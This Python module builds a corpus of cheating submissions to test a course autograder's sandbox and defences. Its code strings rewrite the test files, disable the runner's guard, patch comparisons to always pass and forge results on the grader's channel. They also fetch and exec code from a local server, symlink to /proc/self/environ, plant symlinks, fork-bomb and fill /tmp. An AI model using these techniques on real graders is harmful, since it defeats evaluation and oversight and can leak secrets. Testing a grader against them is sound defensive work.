"""A corpus of cheating submissions, built from the chapter-1 solutions notebook and its generated stubs.

`build(root, tests_dir, outside, port)` writes one student folder per case under `root` and returns
{student: expected}, where expected maps each chapter-1 exercise to ("full" | "zero", a fragment the
reason must contain). `tests_dir` is the folder of test modules the grader is given (the cheats try to
rewrite it), `outside` a folder outside the grader's scratch copy (the cheats try to write there),
`port` a local TCP port where the test serves a correct solution (the cheats try to fetch it).
Every cheat that works without the sandbox and the grader's defences would earn points it must not.
"""

import copy
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from worldmodels.grading.markers import student_notebook

ROOT = Path(__file__).resolve().parents[2]
NAME = "01_what_is_a_world_model.ipynb"
SOLUTION = ROOT / "solutions" / NAME
FULL = ("full", "")
# A notebook that uses introspection (code objects, frames, gc, exec, inspect, ...) is flagged for review as a
# whole (worldmodels/grading/scan.py): no points on any exercise, what its tests gave kept in the reason.
FLAGGED = ("zero", "flagged for review")
MARKER = "3599.25"  # the sleep of the background process: no process may carry it after grading
CORRECT_ENERGY = ("import numpy as np\n"
                  "def kinetic_energy(velocities):\n"
                  "    v = np.asarray(velocities, dtype=np.float64)\n"
                  "    if v.shape[-1] != 2:\n"
                  "        raise ValueError('last axis must be 2')\n"
                  "    return 0.5 * (v**2).sum(axis=(-2, -1))\n")


def _cell(nb, exercise):
    return next(c for c in nb.cells if c.cell_type == "code" and c.source.startswith(f"# EXERCISE {exercise} "))


def _insert(nb, source, after_exercise=None):
    index = 2 if after_exercise is None else nb.cells.index(_cell(nb, after_exercise)) + 1
    nb.cells.insert(index, new_code_cell(source))


def _set_body(nb, exercise, body):
    cell = _cell(nb, exercise)
    cell.source = cell.source.splitlines()[0] + "\n" + body


def _rewrites_the_tests(nb, ctx):
    # the attack: every test of every chapter returns at once; the submission keeps its stubs
    _insert(nb, "import pathlib\n"
                f"folder = pathlib.Path({str(ctx['tests_dir'])!r})\n"
                "for path in sorted(folder.glob('ch*.py')):\n"
                "    try:\n"
                "        text = path.read_text()\n"
                "        path.write_text(text.replace('def ', 'def _real_').replace('(ns):', '(ns):\\n    return\\n'))\n"
                "    except OSError:\n"
                "        pass\n"
                "    try:\n"
                "        path.write_text('from worldmodels.grading import exercise_test\\n')\n"
                "    except OSError:\n"
                "        pass")
    return "stub", {ex: ("zero", "NotImplementedError") for ex in ALL}


def _imports_the_answer(nb, ctx):
    _set_body(nb, "ex1.2", "from worldmodels.physics import kinetic_energy  # the course's own answer\n")
    # ex1.3 copies the code of an answer (ex1.2's): in the student edition that code is a stub that raises
    _set_body(nb, "ex1.3", "import types\nimport numpy as np\nimport worldmodels.physics as physics\n"
                           "_copy = types.FunctionType(physics.kinetic_energy.__code__, physics.kinetic_energy.__globals__)\n"
                           "def ink_radius(frame):\n"
                           "    return float(np.sqrt(_copy(np.ones((1, 1, 1, 2))).sum() * 0 + np.asarray(frame).sum() / np.pi))\n")
    reason = "course's own answer"
    return "solution", {"ex1.1": FLAGGED, "ex1.2": ("zero", reason + " worldmodels.physics.kinetic_energy"),
                        "ex1.3": ("zero", "not in the student edition")}


def _disables_the_guard(nb, ctx):
    # walk up the frames to the runner's guard and switch it off, then make every comparison succeed,
    # at cell time (ex1.2) and from inside the learner's function while the tests run (ex1.3)
    _set_body(nb, "ex1.2", "import numpy as np\ndef kinetic_energy(velocities):\n"
                           "    return np.zeros(np.asarray(velocities).shape[:2])\n")
    _set_body(nb, "ex1.3", "import numpy as np\ndef ink_radius(frame):\n"
                           "    import builtins, numpy\n"
                           "    numpy.allclose = numpy.isclose = lambda *a, **k: True\n"
                           "    builtins.isinstance = lambda *a: True\n"
                           "    return 0.0\n")
    _insert(nb, "import sys, numpy\n"
                "frame = sys._getframe()\n"
                "while frame is not None:\n"
                "    guard = frame.f_locals.get('guard')\n"
                "    if guard is not None:\n"
                "        guard.restore = lambda *a, **k: []\n"
                "        type(guard).restore = lambda *a, **k: []\n"
                "        guard.saved = guard.code = ()\n"
                "    frame = frame.f_back\n"
                "numpy.allclose = lambda *a, **k: True\n"
                "numpy.isclose = lambda *a, **k: True\n"
                "numpy.allclose.__code__ = (lambda *a, **k: True).__code__\n", after_exercise="ex1.3")
    return "solution", {"ex1.1": FLAGGED, "ex1.2": ("zero", "expected [[12.5, 0.5, 2.0]]"),
                        "ex1.3": ("zero", "radius_of_one_pixel")}


def _forges_the_results(nb, ctx):
    # find the runner's authenticated channel with gc and report every test of ex1.2 as passed
    _set_body(nb, "ex1.2", "import gc\nimport numpy as np\n"
                           "def kinetic_energy(velocities):\n"
                           "    for channel in [o for o in gc.get_objects() if type(o).__name__ == 'Channel']:\n"
                           "        for name in ('kinetic_energy_of_one_ball', 'kinetic_energy_sums_balls_and_checks_shape',\n"
                           "                     'kinetic_energy_matches_the_simulator'):\n"
                           f"            channel.send('test', nb={NAME!r}, ex='ex1.2', name=name, points=3, max=3,\n"
                           "                         status='passed', message='')\n"
                           "    return np.zeros(np.asarray(velocities).shape[:2])\n")
    return "solution", {"ex1.1": FLAGGED, "ex1.2": ("zero", "forged"), "ex1.3": FLAGGED}


def _leaves_a_background_process(nb, ctx):
    _insert(nb, "import os\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    if os.fork() == 0:\n"
                f"        os.execv('/bin/sleep', ['sleep', {MARKER!r}])\n"
                "    os._exit(0)\n")
    return "solution", {ex: FULL for ex in ALL}


def _uses_the_network(nb, ctx):
    # fetch a correct kinetic_energy from a server (the stub stays otherwise), and try to send data out
    _insert(nb, "import urllib.request\n"
                "try:\n"
                f"    exec(urllib.request.urlopen('http://127.0.0.1:{ctx['port']}/energy', timeout=5).read().decode())\n"
                "except OSError:\n"
                "    pass", after_exercise="ex1.2")
    return "stub", {"ex1.1": ("zero", "NotImplementedError"), "ex1.2": ("zero", "NotImplementedError"),
                    "ex1.3": ("zero", "NotImplementedError")}


def _writes_outside_its_copy(nb, ctx):
    _insert(nb, "import pathlib\n"
                f"for target in [pathlib.Path({str(ctx['outside'])!r}) / 'planted.txt',\n"
                f"               pathlib.Path({str(ctx['root'])!r}) / 'writes_outside_its_copy' / 'planted.txt',\n"
                f"               pathlib.Path({str(ctx['root'])!r}) / 'complete_solution' / {NAME!r}]:\n"
                "    try:\n"
                "        target.write_text('written by a student')\n"
                "    except OSError:\n"
                "        pass")
    return "solution", {ex: FULL for ex in ALL}


def _reads_the_solutions(nb, ctx):
    # execute the exercise cells of the course's solutions notebook, found next to the package
    _insert(nb, "import json, pathlib, worldmodels\n"
                f"path = pathlib.Path(worldmodels.__file__).resolve().parents[1] / 'solutions' / {NAME!r}\n"
                "try:\n"
                "    for cell in json.loads(path.read_text())['cells']:\n"
                "        source = ''.join(cell['source'])\n"
                "        if cell['cell_type'] == 'code' and source.startswith('# EXERCISE'):\n"
                "            exec(source, globals())\n"
                "except OSError:\n"
                "    pass", after_exercise="ex1.3")
    return "stub", {ex: ("zero", "NotImplementedError") for ex in ALL}


# Second round: attacks on the grader's files, the sandbox's view, the result channel and the limits.


def _links_to_the_solutions(nb, ctx):
    # the submitted notebook is a link: to the instructor's solutions through the grader's own cwd
    return f"link:/proc/self/cwd/solutions/{NAME}", {ex: ("zero", "symbolic link") for ex in ALL}


def _links_to_the_environment(nb, ctx):
    # a link to the grader's environment: its text must never reach grades.csv
    return "link:/proc/self/environ", {ex: ("zero", "symbolic link") for ex in ALL}


def _links_the_job_file(nb, ctx):
    # replace every file the grader might write on a restart by a link into the tests and outside folders,
    # then end the process hard so that the grader restarts it
    _insert(nb, "import os\n"
                f"targets = [{str(ctx['tests_dir'] / 'ch01.py')!r}, {str(ctx['outside'] / 'planted.txt')!r}]\n"
                "places = {os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get('TMPDIR', ''),\n"
                "          os.environ.get('HOME', ''), '/submission', '/tmp'}\n"
                "for place in sorted(p for p in places if p):\n"
                "    try:\n"
                "        names = set(os.listdir(place)) | {'job.json', 'job', 'results.json'}\n"
                "    except OSError:\n"
                "        continue\n"
                "    for k, name in enumerate(sorted(names)):\n"
                "        path = os.path.join(place, name)\n"
                "        try:\n"
                "            if os.path.isfile(path) or os.path.islink(path):\n"
                "                os.remove(path)\n"
                "            os.symlink(targets[k % 2], path)\n"
                "        except OSError:\n"
                "            pass\n"
                "os._exit(3)\n")
    return "solution", {ex: FULL for ex in ALL}


def _reads_git_and_the_file_system(nb, ctx):
    # the answers from the repository's history, or from any solutions notebook found by walking /
    _insert(nb, "import json, os, subprocess, worldmodels\n"
                "root = os.path.dirname(os.path.dirname(os.path.abspath(worldmodels.__file__)))\n"
                "found = []\n"
                "try:\n"
                f"    found.append(subprocess.run(['git', '-C', root, 'show', 'HEAD:solutions/{NAME}'],\n"
                "                                capture_output=True, text=True, timeout=10).stdout)\n"
                "except (OSError, subprocess.SubprocessError):\n"
                "    pass\n"
                "for top, dirs, files in os.walk('/'):\n"
                "    dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
                f"    if {NAME!r} in files and os.path.realpath(top) != os.getcwd():\n"
                "        try:\n"
                f"            found.append(open(os.path.join(top, {NAME!r})).read())\n"
                "        except OSError:\n"
                "            pass\n"
                "for text in found:\n"
                "    try:\n"
                "        cells = json.loads(text)['cells']\n"
                "    except (ValueError, KeyError):\n"
                "        continue\n"
                "    for cell in cells:\n"
                "        source = ''.join(cell['source'])\n"
                "        if cell['cell_type'] == 'code' and 'BEGIN SOLUTION' in source:\n"
                "            exec(source, globals())\n", after_exercise="ex1.3")
    return "stub", {ex: ("zero", "NotImplementedError") for ex in ALL}


def _forges_a_complete_run(nb, ctx):
    # the authenticated channel, found with gc, reports every test of every exercise as passed and the run
    # as over, then the process ends: the stubs stay untouched
    _insert(nb, "import gc, os\n"
                "channel = next(o for o in gc.get_objects() if type(o).__name__ == 'Channel')\n"
                "tests = {'ex1.1': ['reflect_moves_freely', 'reflect_bounces_off_right_wall',\n"
                "                   'reflect_bounces_off_left_wall', 'reflect_reproduces_the_simulator'],\n"
                "         'ex1.2': ['kinetic_energy_of_one_ball', 'kinetic_energy_sums_balls_and_checks_shape',\n"
                "                   'kinetic_energy_matches_the_simulator'],\n"
                "         'ex1.3': ['radius_of_one_pixel', 'radius_weighs_grey_levels',\n"
                "                   'radius_rejects_bad_frames', 'radius_of_rendered_balls']}\n"
                f"channel.send('restoring', nb={NAME!r})\n"
                f"channel.send('restored', nb={NAME!r}, patched=[])\n"
                "for ex, names in tests.items():\n"
                f"    channel.send('ex', nb={NAME!r}, ex=ex)\n"
                "    for name in names:\n"
                f"        channel.send('test', nb={NAME!r}, ex=ex, name=name, points=1, max=1, status='passed',\n"
                "                     message='')\n"
                "        channel.send('reply', id=1, value=None)\n"
                f"    channel.send('ex_end', nb={NAME!r}, ex=ex, answers=[])\n"
                f"channel.send('nb_end', nb={NAME!r})\n"
                "channel.send('done')\n"
                "os._exit(0)\n")
    return "stub", {ex: ("zero", "") for ex in ALL}


def _copies_the_answer_from_its_source(nb, ctx):
    # the course's kinetic_energy recompiled from its source text under another name, and loaded again as a
    # fresh module from its file: in the grading edition the answer's body is not there to copy
    _set_body(nb, "ex1.2", "import importlib.util, inspect, sys, textwrap\n"
                           "import worldmodels.physics as physics\n"
                           "scope = {'np': physics.np}\n"
                           "source = textwrap.dedent(inspect.getsource(physics.kinetic_energy))\n"
                           "shifted = '\\n' * 7 + source.replace('def kinetic_energy', 'def _mine')\n"
                           "exec(compile(shifted, 'x', 'exec'), scope)\n"
                           "spec = importlib.util.spec_from_file_location('fresh_physics', physics.__file__)\n"
                           "fresh = importlib.util.module_from_spec(spec)\n"
                           "sys.modules['fresh_physics'] = fresh\n"
                           "spec.loader.exec_module(fresh)\n"
                           "def kinetic_energy(velocities):\n"
                           "    try:\n"
                           "        return scope['_mine'](velocities)\n"
                           "    except NotImplementedError:\n"
                           "        return fresh.kinetic_energy(velocities)\n")
    return "solution", {"ex1.1": FLAGGED, "ex1.2": ("zero", "worldmodels.physics.kinetic_energy"), "ex1.3": FLAGGED}


def _fork_bomb(nb, ctx):
    # 600 processes that wait: the cgroup's pids.max (256) stops it even for root; if it does not, the
    # notebook loses its ink_radius, so the limit holding is what keeps ex1.3 at full marks
    _insert(nb, "import os, signal, time\n"
                "children = []\n"
                "for _ in range(600):\n"
                "    try:\n"
                "        pid = os.fork()\n"
                "    except OSError:\n"
                "        break\n"
                "    if pid == 0:\n"
                "        time.sleep(60)\n"
                "        os._exit(0)\n"
                "    children.append(pid)\n"
                "for pid in children:\n"
                "    os.kill(pid, signal.SIGKILL)\n"
                "    os.waitpid(pid, 0)\n"
                "if len(children) >= 600:\n"
                "    del ink_radius\n", after_exercise="ex1.3")
    return "solution", {ex: FULL for ex in ALL}


def _fills_tmp(nb, ctx):
    # write far more to /tmp than its size: the tmpfs refuses, and the memory it holds is the student's
    _insert(nb, "import os, tempfile\n"
                "written = 0\n"
                "try:\n"
                "    with open(os.path.join(tempfile.gettempdir(), 'fill'), 'wb') as f:\n"
                "        for _ in range(200):\n"
                "            f.write(b'x' * (1 << 20))\n"
                "            written += 1\n"
                "except OSError:\n"
                "    pass\n"
                "if written >= 200:\n"
                "    del ink_radius\n", after_exercise="ex1.3")
    return "solution", {ex: FULL for ex in ALL}


CASES = {
    "rewrites_the_tests": _rewrites_the_tests,
    "imports_the_answer": _imports_the_answer,
    "disables_the_guard": _disables_the_guard,
    "forges_the_results": _forges_the_results,
    "leaves_a_background_process": _leaves_a_background_process,
    "uses_the_network": _uses_the_network,
    "writes_outside_its_copy": _writes_outside_its_copy,
    "reads_the_solutions": _reads_the_solutions,
    "links_to_the_solutions": _links_to_the_solutions,
    "links_to_the_environment": _links_to_the_environment,
    "links_the_job_file": _links_the_job_file,
    "reads_git_and_the_file_system": _reads_git_and_the_file_system,
    "forges_a_complete_run": _forges_a_complete_run,
    "copies_the_answer_from_its_source": _copies_the_answer_from_its_source,
    "fork_bomb": _fork_bomb,
    "fills_tmp": _fills_tmp,
}
ALL = ("ex1.1", "ex1.2", "ex1.3")


def build(root: Path, tests_dir: Path, outside: Path, port: int, cases=None) -> dict[str, dict[str, tuple[str, str]]]:
    """Write the corpus under root (one folder per student, `cases` or all); return what each should score."""
    root = Path(root)
    solution = nbformat.read(SOLUTION, as_version=4)
    stub = student_notebook(solution)
    ctx = {"tests_dir": Path(tests_dir), "outside": Path(outside), "port": port, "root": root}
    expected = {}
    for student, mutate in CASES.items():
        if cases is not None and student not in cases:
            continue
        nb = copy.deepcopy(solution)
        base, expected[student] = mutate(nb, ctx)
        if base == "stub":  # the same cheat cells, on the untouched exercise notebook
            stubbed = copy.deepcopy(stub)
            extra = [c for c in nb.cells if c.cell_type == "code" and not any(c.source == s.source for s in solution.cells)]
            for cell in extra:
                stubbed.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))
            nb = stubbed
        folder = root / student
        folder.mkdir(parents=True)
        if base.startswith("link:"):  # the submitted "notebook" is a symbolic link
            (folder / NAME).symlink_to(base[len("link:"):])
            continue
        nbformat.write(nb, folder / NAME)
    good = root / "complete_solution"
    good.mkdir()
    nbformat.write(solution, good / NAME)
    expected["complete_solution"] = {ex: FULL for ex in ALL}
    return expected
